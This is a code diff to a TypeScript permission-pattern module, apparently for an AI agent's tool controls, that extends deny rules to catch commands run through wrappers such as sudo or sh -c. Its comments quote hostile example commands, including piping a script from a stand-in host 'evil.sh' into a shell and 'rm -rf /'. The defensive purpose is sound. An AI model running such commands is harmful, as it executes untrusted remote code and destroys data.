@@ -4,10 +4,12 @@
  * (the command starts with `git`), `Read(src/**)` (a glob), `Bash(npm test)` (exactly). A pattern
  * approves a shell command only when it is one simple command (`isSimpleShellCommand`): `Bash(git add:*)`
  * approves `git add .`, never `git add . && curl evil.sh | sh`; and matches a shell command when any simple
- * command inside it does (`simpleCommandsOf`): `Bash(rm:*)` in `disallowed-tools` denies `echo hi && rm -rf /`.
+ * command inside it, or one it runs through a wrapper, does (`wrappedCommandsOf`): `Bash(rm:*)` in
+ * `disallowed-tools` denies `echo hi && rm -rf /` and `sudo rm -rf /`.
  */
 import { picomatch } from "../model/lazy-picomatch.js";
-import { isSimpleShellCommand, simpleCommandsOf } from "./simple-shell-command.js";
+import { isSimpleShellCommand } from "./simple-shell-command.js";
+import { wrappedCommandsOf } from "./wrapped-shell-commands.js";
 
 /** A parsed tool pattern. */
 export interface ToolPattern {
@@ -20,7 +22,8 @@ export interface ToolPattern {
   /**
    * True when a call's main argument (command, path, …) matches; always true without `argument`. What
    * `disallowed-tools` uses: a shell command matches when the whole of it or any simple command inside it
-   * does (`simpleCommandsOf`), so `Bash(rm:*)` there matches `echo hi && rm -rf /`, `x | rm y` and `$(rm z)`.
+   * does, or one it runs through a wrapper (`wrappedCommandsOf`), so `Bash(rm:*)` there matches
+   * `echo hi && rm -rf /`, `x | rm y`, `$(rm z)`, `sudo rm z` and `sh -c 'rm z'`.
    */
   matchesInput(input: unknown): boolean;
   /**
@@ -54,7 +57,7 @@ export function parseToolPattern(text: string): ToolPattern | undefined {
     matchesInput: (input) => {
       const value = mainArgument(input);
       if (matches(value)) return true;
-      return value !== undefined && isShellCommand(input) && simpleCommandsOf(value).some(matches);
+      return value !== undefined && isShellCommand(input) && wrappedCommandsOf(value).some(matches);
     },
     approvesInput: (input) => {
       const value = mainArgument(input);
